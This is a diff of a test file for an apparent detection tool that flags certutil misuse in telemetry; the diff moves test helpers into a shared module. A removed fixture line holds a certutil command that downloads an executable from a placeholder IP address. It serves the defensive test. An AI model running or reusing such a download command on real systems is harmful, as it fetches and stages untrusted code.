@@ -1,27 +1,10 @@
 import assert from 'node:assert/strict';
 import fs from 'node:fs';
-import os from 'node:os';
 import path from 'node:path';
 import { test } from 'node:test';
 import zlib from 'node:zlib';
 import { parseNdjson, runCli } from '../helpers/run-cli.js';
-
-/** A certutil download: process start then a connection to a public address (rule 3). */
-function certutilPair(entity: string, t0: string, t1: string): object[] {
-  const base = { host: { name: 'WS01', os: { type: 'windows' } }, process: { entity_id: entity, name: 'certutil.exe', pid: 4242 } };
-  return [
-    { '@timestamp': t0, event: { category: ['process'], type: ['start'], action: 'start' }, ...base, process: { ...base.process, command_line: 'certutil.exe -urlcache -f http://203.0.113.9/a.exe a.exe' } },
-    { '@timestamp': t1, event: { category: ['network'], type: ['start'], action: 'connection_attempted' }, ...base, destination: { ip: '8.8.4.4', port: 80 } },
-  ];
-}
-
-const ndjson = (docs: object[]) => docs.map((d) => JSON.stringify(d)).join('\n') + '\n';
-
-function tmpDir(): string {
-  return fs.mkdtempSync(path.join(os.tmpdir(), 'lolhunt-e2e-'));
-}
-
-const CERTUTIL = 'Network Connection via Certutil';
+import { CERTUTIL, certutilPair, ndjson, tmpDir } from '../helpers/telemetry.js';
 
 test('a sequence split across two files matches whatever order the files are given in', async () => {
   const dir = tmpDir();
